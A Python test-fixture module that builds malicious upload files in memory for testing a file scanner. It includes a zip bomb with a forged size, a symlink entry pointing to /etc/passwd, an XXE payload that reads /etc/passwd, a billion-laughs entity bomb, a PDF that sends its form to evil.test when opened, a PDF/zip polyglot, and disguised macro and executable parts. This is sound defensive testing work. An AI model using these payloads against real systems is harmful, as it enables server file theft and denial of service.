"""Files as an attacker sends them, made here so that no scanner of ours meets them on a disk."""

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image

EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
"""Harmless, but every scanner finds it: https://www.eicar.org. Put together only here."""

TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships'
    '+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>'
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{}</Relationships>"
)
SHEET = "xl/worksheets/sheet1.xml"
LINKS = "xl/worksheets/_rels/sheet1.xml.rels"
PARTS = {
    "[Content_Types].xml": TYPES,
    "_rels/.rels": RELS.format(""),
    "xl/workbook.xml": "<workbook/>",
    SHEET: "<worksheet><sheetData/></worksheet>",
}


def a_sheet(parts=None, **saving):
    """A small spreadsheet, with these parts beside or instead of the ordinary ones."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED, **saving) as archive:
        for name, content in {**PARTS, **(parts or {})}.items():
            archive.writestr(name, content)
    return written.getvalue()


def an_archive(parts):
    """Any archive, that is no spreadsheet."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return written.getvalue()


def a_link(kind, target):
    """A relationship to something outside of the file."""
    return RELS.format(
        f'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}" TargetMode="External"/>'
    )


def a_symlink():
    """A spreadsheet in which one part is a link to a file of the server."""
    written = io.BytesIO(a_sheet())
    with zipfile.ZipFile(written, "a") as archive:
        link = zipfile.ZipInfo("xl/media/image1.png")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return written.getvalue()


def a_liar(size=80_000_000):
    """A spreadsheet whose sheet says it has 40 bytes, and unfolds to 80 million."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    blank = b" " * 1_000_000
    packed = b"".join(packer.compress(blank) for _ in range(size // len(blank))) + packer.flush()
    name = SHEET.encode()
    crc = zlib.crc32(b" " * 40)
    rest = {part: text for part, text in PARTS.items() if part != SHEET}
    whole = an_archive(rest)
    end = whole.rfind(b"PK\x05\x06")
    count, table, at = struct.unpack_from("<HLL", whole, end + 10)
    facts = (20, 0, 8, 0, 0x21, crc, len(packed), 40, len(name))
    member = struct.pack("<4s5H3L2H", b"PK\x03\x04", *facts, 0) + name + packed
    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, *facts, 0, 0, 0, 0, 0, at) + name
    body = whole[:at] + member + whole[at:end] + entry
    return body + struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, count + 1, count + 1, table + len(entry),
        at + len(member), 0,
    )  # fmt: skip


def a_twin():
    """A spreadsheet with two parts of the same name: one for the scanner, one for Excel."""
    body = a_sheet({"xl/worksheets/sheet2.xml": "<worksheet/>"})
    return body.replace(b"sheet2.xml", b"sheet1.xml")


def two_faced():
    """The table of contents calls a part differently than the part itself does."""
    body = a_sheet({"xl/worksheets/sheet2.xml": "<worksheet/>"})
    return body.replace(b"sheet2.xml", b"sheet3.xml", 1)


def a_picture(kind="PNG", size=(40, 30), mode="RGB", **saving):
    """A picture of one colour."""
    written = io.BytesIO()
    Image.new(mode, size, 0).save(written, kind, **saving)
    return written.getvalue()


def a_photo(**saving):
    """A photograph that says where and with what it was taken, lying on its side."""
    exif = Image.Exif()
    exif[0x010F], exif[0x0112] = "Camera of Anna", 6
    exif.get_ifd(0x8825).update({1: "N", 2: (54.0, 19.0, 0.0)})
    return a_picture("JPEG", exif=exif, comment=b"secret comment", **saving)


def a_png_of(width, height, *, rows=b""):
    """A picture that says it is so large; its content is a few bytes."""
    head = struct.pack(">2L5B", width, height, 1, 0, 0, 0, 0)
    parts = ((b"IHDR", head), (b"IDAT", zlib.compress(rows)), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">L", len(body)) + name + body + struct.pack(">L", zlib.crc32(name + body))
        for name, body in parts
    )


def a_pdf(change=None, **saving):
    """A small PDF, changed before it is saved."""
    document = pikepdf.new()
    document.add_blank_page()
    if change:
        change(document)
    content = io.BytesIO()
    document.save(content, **saving)
    return content.getvalue()


def carry_a_file(document):
    """Put a program into the document."""
    document.attachments["calc.exe"] = b"MZ"


def carry_it_hidden(document):
    """The same at a note on a page instead of in the list of attachments."""
    stream = pikepdf.Stream(document, b"MZ")
    spec = pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec, F="a.exe", EF=pikepdf.Dictionary(F=stream)
    )
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, FS=spec)
    document.pages[0].Annots = pikepdf.Array([note])


def send_the_form(document):
    """A form that sends itself when the document is opened."""
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://evil.test")


def an_archive_that_ends_like_a_pdf():
    """Begins as a PDF and ends as one, and is an archive for whoever reads from behind."""
    comment = b"\n%%EOF\n"
    archive = an_archive({"run.js": "alert(1)"})
    start = a_pdf()
    at = archive.rfind(b"PK\x05\x06")
    offset = struct.unpack_from("<L", archive, at + 16)[0] + len(start)
    end = archive[at : at + 16] + struct.pack("<LH", offset, len(comment))
    return start + archive[:at] + end + comment


def an_xlsm():
    """A spreadsheet with macros under the name of one without."""
    return a_sheet({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


BILLION = (
    "<!DOCTYPE a ["
    + "<!ENTITY b 'lol'>"
    + "".join(f"<!ENTITY {chr(99 + at)} '{('&' + chr(98 + at) + ';') * 10}'>" for at in range(9))
    + "]><worksheet>&k;</worksheet>"
)
"""A few hundred bytes that become three gigabytes for whoever resolves them."""
XXE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet>&x;</worksheet>'
